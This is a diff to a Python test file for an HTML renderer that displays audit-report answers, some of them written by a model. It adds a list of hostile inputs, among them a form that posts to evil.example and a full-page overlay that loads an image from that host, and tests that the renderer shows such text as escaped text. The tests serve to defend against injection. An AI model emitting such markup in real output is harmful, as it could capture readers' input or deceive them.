@@ -31,6 +31,13 @@ HOSTILE = [
     "**3 of 4 reports** _all_ ~~no~~ &lt;b&gt; &#60;b&#62;",
     "<!-- --> <?php ?> <![CDATA[x]]>",
 ]
+# A model writes these to be taken for more than its words.
+HOSTILE += [
+    "<form action=https://evil.example><input name=q><button>Send</button></form>",
+    '<div style="position:fixed;inset:0;background:url(https://evil.example/x)">',
+    "<details open><summary>x</summary></details>",
+    "As found [7] and\n[1]: https://evil.example",
+]
 OURS = {"div", "section", "article", "p", "h3", "ul", "li", "span", "a", "strong", "blockquote", "details", "summary"}
 
 
@@ -79,6 +86,19 @@ def test_an_answer_shows_hostile_text_as_text(text, make_answer):
         assert set(page.targets) == {"#src-1-1"}
         assert not page.ids
         assert page.text.count(text) >= 9
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_what_a_model_wrote_is_shown_as_text(text, make_written, make_prose):
+    prose = (make_prose(text), make_prose(text, 1, (2,), "report"), make_prose(text, 2, (1, 2)))
+    answer = replace(make_written(*prose, listed=[text]), answered_by=text)
+    made = answer_html(answer, 1)
+    page = Read(made)
+    assert page.tags <= OURS
+    assert page.targets == ["#src-1-1", "#src-1-2", "#src-1-1", "#src-1-2", "#src-1-1"]
+    assert not page.ids
+    assert page.text.count(text) == 5
+    assert "\n" not in made
 
 
 @pytest.mark.parametrize("text", HOSTILE)
@@ -265,6 +285,44 @@ def test_reports_stand_beside_each_other_in_the_order_given(make_citation, make_
         "concern one [1] source 1good practice three [3] source 3",
         "Audit A (Harrowmere Partnership; February 2025; sample of 9 children)concern two [2] source 2",
     ]
+
+
+def test_prose_stands_first_in_paragraphs_with_each_sentence_cited(make_written, make_prose):
+    prose = (
+        make_prose("Plans were late."),
+        make_prose("Nobody asked.", 1, (2, 1), "report"),
+        make_prose("So it was.", 3, (1,)),
+    )
+    made = answer_html(make_written(*prose, listed=["Left over."]), 1)
+    first, second = re.findall(r'<p class="paragraph">(.*?)</p>', made)
+    assert Read(first).text == "Plans were late. [1] source 1 “Nobody asked.” [2] source 2[1] source 1"
+    assert '<span class="said quoted">&#8220;Nobody asked' in first
+    assert Read(second).text == "So it was. [1] source 1"
+    assert re.search(
+        r"Written by ollama:llama3\.1 from the reports' findings; each sentence was checked against its sources\."
+        r"Plans.*So it was.*Also found1 more finding, in the reports' own wordsConcernLeft over\.",
+        Read(made).text,
+    )
+
+
+@pytest.mark.parametrize("by_report", [True, False])
+def test_the_findings_beside_the_prose_are_folded_and_counted(by_report, make_written, make_prose):
+    answer = make_written(make_prose("x"), listed=["a", "b"], by_report=by_report)
+    details = re.search(r'<details class="more">(.*?)</details>', answer_html(answer, 1))[1]
+    assert Read(details).text.startswith("2 more findings, in the reports' own words")
+    assert details.count("<li>") == 2
+    assert ('class="beside"' in details) is by_report
+
+
+def test_prose_that_leaves_nothing_over_has_nothing_folded(make_written, make_prose):
+    made = answer_html(make_written(make_prose("x")), 1)
+    assert "<details" not in made
+    assert "Also found" not in made
+
+
+def test_an_extractive_answer_is_neither_folded_nor_said_to_be_written(make_answer):
+    made = answer_html(make_answer("one", "two"), 1)
+    assert not any(part in made for part in ("<details", "Written by", "paragraph", "Also found"))
 
 
 def test_links_and_caveats_come_with_the_last_statement(make_answer):
